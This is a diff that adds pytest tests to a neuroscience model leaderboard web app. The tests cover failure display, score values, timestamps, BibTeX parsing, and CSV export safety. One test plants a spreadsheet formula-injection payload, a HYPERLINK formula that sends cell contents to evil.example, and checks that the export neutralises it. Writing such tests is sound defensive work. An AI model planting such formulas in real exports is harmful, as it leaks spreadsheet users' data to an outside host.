@@ -755,3 +755,156 @@ def test_sign_ups_are_bounded_per_client_address_and_per_site(app):
     app.state.site.throttle = Throttle(registrations="2/hour")  # the whole site's bound, made small
     assert [sign_up(TestClient(app, client=(f"198.51.100.{i}", 4000)), f"many-{i}").status_code
             for i in range(10, 13)] == [303, 303, 429]
+
+
+def test_a_failed_resubmission_never_hides_a_done_score_on_any_surface(app):
+    """Issue 36: a pair scored, then its resubmission failed. The board, its CSV and JSON exports and
+    ``/api/leaderboard`` all still show the done value, with the failure beside it; a pair whose only run
+    failed shows "failed", one never run "—", and each row says how complete it is."""
+    from brainscore.web.tasks import record_pair_failure
+
+    store = app.state.store
+    with Session(app.state.engine) as session:  # the failing resubmission, as the queue records it
+        task = SubmissionTask(owner="alice", package="my_tiny_net", models=["pub-net"], benchmarks=[BENCHMARK],
+                              status="running", log="", folder="/nonexistent")
+        session.add(task)
+        session.commit()
+        task_id = task.id
+    record_pair_failure(store, task_id, None, "pub-net", BENCHMARK,
+                        "RuntimeError: CUDA out of memory in /home/operator/secret/model.py\nsecond line")
+    record_pair_failure(store, task_id, None, "pub-net", "Mur2013-rdm", "ValueError: no layer V4")
+    client = TestClient(app)
+    api = {r["model"]: r for r in client.get("/api/leaderboard").json()}
+    assert api["pub-net"]["scores"][BENCHMARK] == pytest.approx(0.25)
+    assert api["pub-net"]["failed"][BENCHMARK].startswith("RuntimeError: CUDA out of memory in")
+    assert "/home/operator" not in api["pub-net"]["failed"][BENCHMARK]  # redacted: no server paths
+    assert "second line" not in api["pub-net"]["failed"][BENCHMARK]     # one line
+    assert api["pub-net"]["scores"]["Mur2013-rdm"] is None and api["pub-net"]["failed"]["Mur2013-rdm"] == \
+        "ValueError: no layer V4"
+    done, total = api["pub-net"]["complete"]
+    assert done == 1 and total >= 10
+    lines = client.get("/leaderboard.csv").text.splitlines()
+    header = lines[0].split(",")
+    row = next(line.split(",") for line in lines[1:] if line.split(",")[1] == "pub-net")
+    assert row[header.index(BENCHMARK)] == "0.250000"
+    body = client.get("/leaderboard.json").json()
+    row = next(r for r in body["rows"] if r["model"] == "pub-net")
+    assert row[BENCHMARK] == pytest.approx(0.25) and BENCHMARK in row["failed"] and row["complete"] == [1, total]
+    page = client.get("/").text
+    cells = re.search(r'<tr data-model="pub-net">(.*?)</tr>', page, re.S).group(1)
+    cell = re.search(rf'<td [^>]*data-node="{re.escape(BENCHMARK)}"[^>]*>.*?</td>', cells, re.S).group(0)
+    assert 'data-score="0.250000"' in cell and 'data-state="done"' in cell and "a later run failed: RuntimeError" in cell
+    assert 'class="later-failed"' in cell
+    mur = re.search(r'<td [^>]*data-node="Mur2013-rdm"[^>]*>.*?</td>', cells, re.S).group(0)
+    assert 'data-state="failed"' in mur and '<span class="failed">failed</span>' in mur and "no layer V4" in mur
+    assert re.search(r'<td [^>]*data-node="Kiani2007.IT-rdm"[^>]*data-state="none"', cells)
+    assert f'<span class="complete" title="benchmarks with a done score, of all">1/{total}</span>' in cells
+    assert 'id="average-note"' in page and "counts as 0" in page
+    # a later done run clears the failure mark
+    add_scored_model(store, "pub-net", 0.3)
+    api = {r["model"]: r for r in client.get("/api/leaderboard").json()}
+    assert api["pub-net"]["scores"][BENCHMARK] == pytest.approx(0.3) and BENCHMARK not in api["pub-net"]["failed"]
+
+
+def test_a_top1_score_page_shows_the_raw_accuracy_as_every_other_page(app):
+    """Issue 36: ``/scores/{id}`` showed the ceiled value and "ceiling 0.8000" of a top-1 benchmark where the
+    leaderboard, the model and the benchmark pages show the raw accuracy."""
+    score_id = record(Outcome.from_score(Score.of(0.5, raw=0.4, ceiling=0.8, model_identifier="pub-net",
+                                                  benchmark_identifier="Geirhos2021edge-top1")), app.state.store)
+    client = TestClient(app)
+    page = client.get(f"/scores/{score_id}").text
+    assert 'data-score="0.40000000000000002"' in page and "0.8000" not in page and "0.5000" not in page
+    model = client.get("/api/models/pub-net").json()
+    assert next(r for r in model["scores"] if r["benchmark"] == "Geirhos2021edge-top1")["score"] == pytest.approx(0.4)
+
+
+def test_records_without_an_end_time_count_from_their_start(app):
+    """Issue 36: ``?at=`` and ``?since=`` dropped every record without an end time (4 of 706 models "as of
+    today"). A record counts from its end, else its start; one with neither counts as of today only."""
+    import datetime as dt
+
+    for model, provenance in (("started-net", {"start": "2026-02-10T08:00:00+00:00"}), ("undated-net", {})):
+        record(Outcome.from_score(Score.of(0.5, raw=0.4, ceiling=0.8, model_identifier=model,
+                                           benchmark_identifier=BENCHMARK, provenance=provenance)), app.state.store)
+    client = TestClient(app)
+    today = dt.datetime.now(dt.timezone.utc).date().isoformat()
+    now = {r["model"] for r in client.get("/api/leaderboard").json()}
+    assert {r["model"] for r in client.get("/api/leaderboard", params={"at": today}).json()} == now >= \
+        {"started-net", "undated-net"}
+    assert {r["model"] for r in client.get("/api/leaderboard", params={"at": "2026-02-10"}).json()} == {"started-net"}
+    assert client.get("/api/leaderboard", params={"at": "2026-02-09"}).json() == []
+    since = {r["model"] for r in client.get("/api/leaderboard", params={"since": "2026-02-01"}).json()}
+    assert "started-net" in since
+
+
+def test_csv_exports_never_carry_a_formula_and_numbers_stay_numbers(app, capsys):
+    """Issue 36: ``/leaderboard.csv`` carried ``=HYPERLINK(...)`` cells. Every text cell starting with = + - @
+    tab or CR is prefixed with ``'`` (OWASP), on the website and ``brainscore leaderboard --format csv``; scores,
+    negative ones included, stay numbers."""
+    import csv as csv_module
+    import io
+
+    from brainscore.cli import main
+    from brainscore.leaderboard.csv_cells import safe_cell
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    add_scored_model(app.state.store, evil, 0.5)
+    add_scored_model(app.state.store, "@sum-net", 0.4)
+    rows = list(csv_module.reader(io.StringIO(TestClient(app).get("/leaderboard.csv").text)))
+    models = [row[1] for row in rows[1:]]
+    assert "'" + evil in models and "'@sum-net" in models and "pub-net" in models
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+    assert main(["leaderboard", "--format", "csv", "--db", app.state.store.url]) == 0
+    cli = list(csv_module.reader(io.StringIO(capsys.readouterr().out)))
+    assert "'" + evil in [row[0] for row in cli[1:]]
+    assert [safe_cell(v) for v in ("-0.250000", -0.25, "1e-05", "-net", "\tx", "\rx", "+1 (555)", None)] == \
+        ["-0.250000", -0.25, "1e-05", "'-net", "'\tx", "'\rx", "'+1 (555)", ""]
+
+
+def test_the_bibtex_export_keeps_an_at_sign_inside_a_field(app, monkeypatch):
+    """Issue 36: the BibTeX export split entries at every ``@``, so an address in a url or title made two broken
+    entries. Entries end at the brace that closes them."""
+    from brainscore.web.routes import pages
+
+    entry = ("@article{netpaper2026,\n  title={Mail the authors at lab@example.org},\n"
+             "  url={https://social.example/@lab},\n  note=\"see @home\"\n}")
+    monkeypatch.setattr(pages, "model_bibtex", lambda site, model: entry if model == "pub-net" else "")
+    bib = TestClient(app).get("/leaderboard.bib").text
+    assert entry in bib and bib.count("@article{netpaper2026") == 1
+    assert "\n\n@example.org" not in bib and "\n\n@lab}" not in bib
+    assert pages._entries("% a comment with no entry\n@misc{a, title={x}}\n@book(b, title={p)q})") == \
+        ["@misc{a, title={x}}", "@book(b, title={p)q})"]
+
+
+def test_times_are_shown_in_utc(app):
+    """Issue 36: times were shown without a zone; every page and export says UTC."""
+    add_scored_model(app.state.store, "dated-net", 0.5, provenance={"end": "2026-03-01T12:34:00+00:00"})
+    client = TestClient(app)
+    page = client.get("/models/dated-net").text
+    assert '<td class="muted">2026-03-01 12:34 UTC</td>' in page
+    assert client.get("/api/models/dated-net").json()["scores"][0]["end"] == "2026-03-01T12:34:00+00:00"
+    alice = user(app, "alice")
+    key = queued_task(app)
+    assert alice.get(f"/api/submissions/{key}").json()["created"].endswith("+00:00")
+    assert re.search(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC", alice.get("/submissions").text)
+
+
+def test_model_page_ranks_per_node_and_benchmark_page_says_how_to_use_it(app):
+    """Issue 36, beyond brain-score.org: a model's page gives its rank at each node of the leaderboard tree, and a
+    benchmark's page a snippet of this project's API that scores a model on it."""
+    import html
+
+    _more_scores(app)  # pub-net 0.25 on the V4 benchmark and 0.30 on Mur2013-rdm; other-net 0.45 and 0.20
+    client = TestClient(app)
+    ranks = {r["node"]: r for r in client.get("/api/models/pub-net").json()["ranks"]}
+    assert (ranks[BENCHMARK]["rank"], ranks[BENCHMARK]["of"]) == (2, 2)   # behind other-net (secret-net is private)
+    assert (ranks["Mur2013-rdm"]["rank"], ranks["Mur2013-rdm"]["of"]) == (1, 2)
+    assert ranks["average_vision"]["of"] == 2 and "Kiani2007.IT-rdm" not in ranks  # no value there: no rank
+    page = client.get("/models/pub-net").text
+    assert re.search(rf'<tr data-node="{re.escape(BENCHMARK)}"><td>.*?</td><td>0.250</td><td>2 of 2</td></tr>', page)
+    snippet = html.unescape(re.search(r'<pre class="snippet" id="how-to-use"[^>]*>(.*?)</pre>',
+                                      client.get(f"/benchmarks/{BENCHMARK}").text, re.S).group(1))
+    assert snippet.startswith(f'from brainscore import score\n\nresult = score("other-net", "{BENCHMARK}")')
+    assert f"brainscore score --model other-net --benchmark {BENCHMARK}" in snippet
+    import brainscore
+    assert callable(brainscore.score)  # the name the snippet imports
